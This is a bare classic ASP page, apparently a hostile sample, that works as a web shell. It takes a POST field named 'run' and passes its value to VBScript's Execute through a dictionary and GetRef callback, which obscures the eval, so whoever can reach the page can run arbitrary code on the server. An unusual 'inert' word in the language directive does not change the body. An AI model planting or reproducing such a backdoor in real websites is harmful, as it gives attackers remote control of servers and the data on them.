<%@ Language=VBScript inert %>
<%
Sub Handle(s)
  Execute s
End Sub
Dim map, k
Set map = Server.CreateObject("Scripting.Dictionary")
map.Add "run", GetRef("Handle")
For Each k In Request.Form
  If map.Exists(k) Then
    Dim cb : Set cb = map(k)
    cb Request.Form(k)
  End If
Next
%>
